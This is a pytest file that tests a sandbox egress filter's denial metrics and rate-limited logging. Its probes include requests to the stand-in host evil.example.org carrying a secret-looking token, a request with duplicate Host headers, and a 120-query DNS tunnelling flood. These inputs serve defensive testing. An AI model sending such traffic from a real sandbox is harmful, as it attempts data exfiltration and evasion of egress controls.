"""What an operator sees when something did not connect: numbers per sandbox and rule, and a line in the log."""

import re

import httpx
import pytest

from e2e.shared.egress import custom, sandbox_under
from lab import addresses, wait_until
from lab.reach import dns, get, https, reach, tcp, tls
from lab.stored import log_since


@pytest.fixture(scope="module")
def sandbox(server):
    with sandbox_under(custom("example.com", "private.example.com")) as made:
        yield made


def denials(server, sandbox) -> dict[str, float]:
    """Rule → how often it denied something to a sandbox."""
    page = httpx.get(f"http://{server.metrics_address}/metrics").text
    found = re.findall(r"^leapbox_egress_denied_total\{([^}]*)\} (\S+)$", page, re.MULTILINE)
    labelled = ((dict(re.findall(r'(\w+)="([^"]*)"', labels)), float(value)) for labels, value in found)
    return {labels["rule"]: value for labels, value in labelled if labels["sandbox"] == sandbox.id}


def test_every_denial_is_counted_and_logged_with_its_sandbox_its_rule_and_what_it_was(server, sandbox):
    logged = log_since(server)
    # In two runs: at most five a second are logged.
    twice = "GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n"
    quoted = "GET /path-with-a-secret?token=hidden HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"
    inside = https("private.example.com", address=addresses.EXAMPLE_COM)
    reach(sandbox, dns=dns("evil.example.org"), nameless=tls(None, get("x")), inside=inside)
    place = (addresses.EXAMPLE_COM, 80)
    reach(sandbox, twice=tcp(*place, twice), quoted=tcp(*place, quoted), tls=https("evil.example.org"))
    wait_until("all are counted", lambda: sum(denials(server, sandbox).values()) >= 6)
    assert len(denials(server, sandbox)) >= 4, denials(server, sandbox)
    lines = [line for line in logged().splitlines() if "egress" in line and sandbox.id in line]
    for rule in denials(server, sandbox):
        assert any(rule in line for line in lines), (rule, lines)
    assert any("evil.example.org" in line for line in lines), lines
    assert "hidden" not in logged() and "path-with-a-secret" not in logged()


def test_a_flood_of_denials_is_counted_whole_and_logged_a_little(server, sandbox):
    logged, before = log_since(server), sum(denials(server, sandbox).values())
    reach(sandbox, **{f"q{number}": dns(f"{number}.tunnel.example.org", "TXT") for number in range(120)})
    wait_until("all are counted", lambda: sum(denials(server, sandbox).values()) >= before + 120)
    lines = [line for line in logged().splitlines() if "egress" in line and sandbox.id in line]
    assert 1 <= len(lines) <= 80, len(lines)


def test_the_numbers_of_a_deleted_sandbox_are_gone(server):
    with sandbox_under(custom("example.com")) as passing:
        reach(passing, dns=dns("evil.example.org"))
        wait_until("it is counted", lambda: denials(server, passing))
    wait_until("it is forgotten", lambda: not denials(server, passing))
